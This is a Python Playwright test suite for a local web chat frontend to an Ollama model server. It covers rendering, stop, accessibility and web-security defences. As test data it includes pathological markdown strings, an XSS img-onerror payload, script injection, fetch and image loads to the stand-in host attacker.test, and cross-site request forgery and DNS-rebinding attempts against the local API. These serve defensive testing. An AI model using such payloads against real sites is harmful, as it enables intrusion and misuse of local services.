    assert all(link is None or link.startswith("https://") for link in links)
    assert tab.page.evaluate("window.attacked") is None
    assert [url for url in asked if "/api/" not in url] == []


HOSTILE = {
    "quotes": ">" * 6000 + " x",
    "many quotes": ">" * 200_000 + " x",
    "bullets": "- " * 3000 + "x",
    "stars": "*" * 5000 + "a" + "*" * 5000 + "x",
    "emphasis": "*a **b " * 5000 + "c" + " b** a*" * 5000 + "x",
    "brackets": "[" * 30_000 + "x",
    "underscores": "_a" * 50_000 + "x",
    "cells that are not there": "|".join("x" * 1000) + "\n" + "|".join("-" * 1000) + "\n" + "a\n" * 6000 + "x",
    "rows": "|a|b|\n|-|-|\n" + "|x|y|\n" * 20_000,
    "a long line": "x" * 1_000_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_an_answer_that_cannot_be_drawn_is_shown_as_text_and_the_page_goes_on(
    tab: Tab, ollama: FakeOllama, name: str
) -> None:
    text = HOSTILE[name]
    pieces = [text[at : at + len(text) // 9] for at in range(0, len(text), len(text) // 9)]
    ollama.script("/api/chat", Reply.chat(*pieces), Reply.chat("Fine."))
    tab.ask()
    expect(tab.status).to_have_text(re.compile("^Done"))
    expect(tab.stop).to_be_hidden()
    expect(tab.page.get_by_role("button", name="Retry")).to_be_enabled()
    expect(tab.answers.last).to_contain_text("x")
    tab.ask("Better?")
    expect(tab.answers.last).to_have_text("Fine.")
    assert messages(ollama, 2)[1] == ("assistant", text)
    # Also where all of it is drawn anew.
    tab.page.reload()
    expect(tab.status).to_have_text("Ready")
    expect(tab.answers.last).to_have_text("Fine.")
    expect(tab.answers.first).to_contain_text("x")


def test_escape_stops_also_while_something_hostile_comes(tab: Tab, ollama: FakeOllama) -> None:
    line = "*a **b " * 1000
    steps = [step for _ in range(200) for step in (*Reply.chat(line, done=False).steps,)]
    ollama.script("/api/chat", Reply([*steps, Stall()]))
    tab.ask()
    expect(tab.meter).to_contain_text("200 tokens")
    tab.page.keyboard.press("Escape")
    saw_stop(tab, connection_of(ollama), "Esc while something hostile is drawn")
    expect(tab.status).to_have_text(re.compile("^Stopped by you after"))
    expect(tab.stop).to_be_hidden()


BROKEN = {
    "the sanitiser": """Object.defineProperty(Element.prototype, "innerHTML", { set() { throw new Error("no"); } });""",
    "the worker": """window.Worker = class { constructor() { throw new Error("no"); } };""",
    "a worker that is silent": """
        const post = Worker.prototype.postMessage;
        Worker.prototype.postMessage = function () {};
    """,
    "the storage": """
        for (const name of ["getItem", "setItem"]) Storage.prototype[name] = () => { throw new Error("full"); };
    """,
    "scrolling": """Element.prototype.scrollTo = () => { throw new Error("no"); };""",
    "the clipboard": """Object.defineProperty(navigator, "clipboard", { value: undefined });""",
}


@pytest.mark.parametrize("what", BROKEN)
def test_what_fails_beside_an_answer_does_not_keep_the_page_from_going_on(
    context: BrowserContext, served: WebPage, ollama: FakeOllama, what: str
) -> None:
    context.add_init_script(BROKEN[what])
    tab = Tab(context.new_page(), served.url)
    ollama.script("/api/chat", Reply.chat("It is", " *fine*."), ENDLESS)
    tab.ask()
    expect(tab.status).to_have_text(re.compile("^Done: 2 tokens"))
    expect(tab.answers.last).to_have_text(re.compile(r"^It is \*?fine\*?\.\s*$"))
    tab.page.get_by_role("button", name="Copy").click()
    if what == "the clipboard":
        expect(tab.meter).to_contain_text("select the text")
    tab.ask_until(BEGINNING)
    tab.stop.click()
    assert connection_of(ollama, 2).wait_left(BOUND)
    expect(tab.status).to_have_text(re.compile("^Stopped by you after"))
    expect(tab.stop).to_be_hidden()


@pytest.mark.parametrize("saved", ['{"turns": [null, 1, {"role": "assistant"}]}', '{"turns": {}}', "null", "[", '"x"'])
def test_what_another_version_has_kept_does_not_keep_the_page_from_beginning(
    context: BrowserContext, served: WebPage, ollama: FakeOllama, saved: str
) -> None:
    context.add_init_script(f"try {{ sessionStorage.setItem('conversation', {json.dumps(saved)}); }} catch {{}}")
    tab = Tab(context.new_page(), served.url)
    tab.ask()
    expect(tab.status).to_have_text(re.compile("^Done"))


@pytest.mark.parametrize(
    "body", ["event: chunk\ndata: {bad\n\n", "event: chunk\ndata: null\n\n", "event: end\ndata: [\n\n"]
)
def test_invalid_events_end_the_answer(tab: Tab, body: str) -> None:
    tab.page.route("**/api/chat", lambda route: route.fulfill(body=body, content_type="text/event-stream"))
    tab.ask()
    expect(tab.page.locator(".note").last).to_be_visible()
    expect(tab.stop).to_be_hidden()
    expect(tab.page.locator("#state")).to_have_attribute("data-state", "failed")


def test_a_failure_of_the_page_leaves_the_model_server(tab: Tab, ollama: FakeOllama) -> None:
    ollama.script("/api/chat", ENDLESS)
    tab.page.evaluate("""() => {
        const parse = JSON.parse;
        JSON.parse = (text) => {
            if (text.includes('"message"')) throw new Error("no");
            return parse(text);
        };
    }""")
    tab.ask()
    assert connection_of(ollama).wait_left(BOUND)
    expect(tab.status).to_contain_text("The page failed")


@pytest.mark.parametrize("body", ["null", "{}", "<html>", '{"error": "it is too long"}'])
def test_a_refusal_by_something_between_is_told(tab: Tab, body: str) -> None:
    tab.page.route("**/api/chat", lambda route: route.fulfill(status=413, body=body))
    tab.ask()
    expect(tab.status).to_contain_text("it is too long" if "error" in body else "status 413")
    expect(tab.stop).to_be_hidden()


def test_a_conversation_that_is_too_long_is_not_sent(tab: Tab, ollama: FakeOllama) -> None:
    tab.page.evaluate("document.querySelector('#prompt').value = 'x'.repeat(5 * 1024 * 1024)")
    tab.prompt.press("Enter")
    expect(tab.status).to_have_text("The conversation has 5.0 MB, of at most 4.0: begin a new chat")
    expect(tab.stop).to_be_hidden()
    tab.page.get_by_role("button", name="New chat").click()
    tab.ask()
    expect(tab.status).to_have_text(re.compile("^Done"))
    assert len(ollama.wait_for_requests(path="/api/chat")) == 1


def test_the_policy_holds_what_the_sanitiser_would_let_through(tab: Tab) -> None:
    tried = tab.page.evaluate("""async () => {
        const tried = [];
        const seen = new Promise((resolve) => addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
            tried.push(effectiveDirective);
            if (effectiveDirective === "img-src") resolve();
        }));
        try { document.body.innerHTML = "<img src=x onerror='window.attacked = 1'>"; } catch {}
        const script = document.createElement("script");
        try { script.textContent = "window.attacked = 2"; document.body.append(script); } catch {}
        try { await fetch("https://attacker.test/"); } catch {}
        new Image().src = "https://attacker.test/x.png";
        await Promise.race([seen, new Promise((resolve) => setTimeout(resolve, 30_000))]);
        return tried;
    }""")
    assert {"require-trusted-types-for", "connect-src", "img-src"} <= set(tried)
    assert tab.page.evaluate("window.attacked") is None


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_it_is_accessible(tab: Tab, ollama: FakeOllama, scheme: Any) -> None:
    tab.page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
    ollama.script("/api/chat", Reply.chat(MARKDOWN, thinking=["Hm."]), ENDLESS)
    axe = Axe()

    def check() -> None:
        results = axe.run(tab.page)
        assert results.violations_count == 0, results.generate_report()

    tab.ask()
    expect(tab.status).to_have_text(re.compile("^Done"))
    check()
    tab.ask_until(BEGINNING)
    check()
    tab.stop.click()
    expect(tab.status).to_have_text(re.compile("^Stopped"))
    check()
    ground = tab.page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert ground == {"light": "rgb(251, 250, 248)", "dark": "rgb(25, 24, 23)"}[scheme]


@pytest.mark.parametrize("width", [390, 768, 1400])
def test_the_keyboard_is_enough(tab: Tab, ollama: FakeOllama, width: int) -> None:
    tab.page.set_viewport_size({"width": width, "height": 720})
    ollama.script("/api/chat", ENDLESS, Reply.chat("Better."))
    press = tab.page.keyboard.press
    expect(tab.prompt).to_be_focused()
    tab.page.keyboard.type("Two")
    press("Shift+Enter")
    tab.page.keyboard.type("lines")
    press("Tab")
    expect(tab.page.get_by_role("button", name="Send")).to_be_focused()
    press("Space")
    expect(tab.answers.last).to_contain_text(BEGINNING)
    expect(tab.prompt).to_be_focused()
    press("Tab")
    expect(tab.stop).to_be_focused()
    press("Space")
    assert connection_of(ollama).wait_left(BOUND)
    assert messages(ollama, 1) == [("user", "Two\nlines")]
    expect(tab.prompt).to_be_focused()
    press("Shift+Tab")
    press("Shift+Tab")
    expect(tab.page.get_by_role("button", name="Retry")).to_be_focused()
    press("Enter")
    expect(tab.answers.last).to_have_text("Better.")
    expect(tab.prompt).to_be_focused()
    assert tab.page.evaluate("document.documentElement.scrollWidth") <= width


# -- other web sites --


def test_another_site_reaches_no_model(tab: Tab, context: BrowserContext, served: WebPage, ollama: FakeOllama) -> None:
    body = json.dumps({"model": "fake", "messages": [{"role": "user", "content": "hi"}]})
    context.route(
        "http://attacker.test/**", lambda route: route.fulfill(body="<form></form>", content_type="text/html")
    )
    attacker = context.new_page()
    attacker.goto("http://attacker.test/")
    for types in ("text/plain", "application/json"):
        attacker.evaluate(
            """([url, body, type]) => fetch(url, {
                method: "POST", mode: "no-cors", body, headers: { "Content-Type": type },
                signal: AbortSignal.timeout(30_000),
            }).catch(() => {})""",
            [f"{served.url}api/chat", body, types],
        )
    with attacker.expect_navigation():
        attacker.evaluate(
            """([url, body]) => {
                const form = document.forms[0];
                Object.assign(form, { action: url, method: "POST", enctype: "text/plain" });
                const [name, ...value] = body.split(":");
                const input = Object.assign(document.createElement("input"), { name, value: value.join(":") });
                form.append(input);
                form.submit();
            }""",
            [f"{served.url}api/chat", body],
        )
    expect(attacker.locator("body")).to_contain_text("another web site asked for this")
    tab.ask()  # the page itself may
    expect(tab.status).to_have_text(re.compile("^Done"))
    assert len(ollama.wait_for_requests(path="/api/chat")) == 1


def test_a_name_that_was_made_to_point_here_is_refused(context: BrowserContext, served: WebPage) -> None:
    page = context.new_page()
    answer = page.goto(served.url.replace("127.0.0.1", "rebound.test"))
    assert answer is not None
    assert answer.status == 403
    expect(page.locator("body")).to_contain_text("this page is not at 'rebound.test")
    answer = page.goto(served.url.replace("127.0.0.1", "localhost"))
    assert answer is not None
    assert answer.status == 200


# -- other servers --


def test_without_a_server_an_embedded_one_answers_and_the_page_says_so(context: BrowserContext) -> None:
    with web_page("127.0.0.1:1") as served:
        assert "no model computes anything" in served.said
        tab = Tab(context.new_page(), served.url)
        expect(tab.page.get_by_role("note")).to_contain_text("no model computes anything")
        tab.ask()
        expect(tab.answers.last).to_contain_text("This answer is always the same")
        expect(tab.page.locator("details")).to_be_visible()
        tab.stop.click()
        expect(tab.status).to_have_text(re.compile("^Stopped by you after"))


@pytest.fixture(scope="module")
def _served_by_real(_ollama_server: RealOllama) -> Iterator[WebPage]:
    with web_page(_ollama_server.url, "--unattended", "0.3") as page:
        yield page


@pytest.fixture
def real_tab(context: BrowserContext, _served_by_real: WebPage, real_ollama: RealOllama) -> Tab:
    return Tab(context.new_page(), _served_by_real.url)


@pytest.mark.real
def test_stop_on_a_real_server(real_tab: Tab, real_ollama: RealOllama) -> None:
    mark = real_ollama.mark()
    real_tab.ask()
    expect(real_tab.status).to_have_text("Answering")
    assert real_ollama.request_ends(mark, "/api/chat") == []

    def ended_at() -> float:
        [end] = real_ollama.wait_for_request_end(mark, timeout=BOUND)
        assert end.status == 200
        return time.monotonic()

    with ThreadPoolExecutor(1) as beside:  # its log has whole seconds only, so somebody has to look meanwhile
        seen = beside.submit(ended_at)
        real_tab.stop.click()
        seconds = seen.result() - real_tab.stopped_at()
    print(f"\nStop: the real server had logged the request's end {seconds * 1000:.0f} ms after the click")
    real_ollama.wait_until_idle(timeout=BOUND)
    expect(real_tab.status).to_have_text(re.compile(r"^Stopped by you after \d+ tokens? in"))


@pytest.mark.real
def test_a_closed_tab_on_a_real_server(real_tab: Tab, real_ollama: RealOllama) -> None:
    mark = real_ollama.mark()
    real_tab.ask()
    expect(real_tab.status).to_have_text("Answering")
    real_tab.page.close()
    real_ollama.wait_for_request_end(mark, timeout=BOUND)
    real_ollama.wait_until_idle(timeout=BOUND)
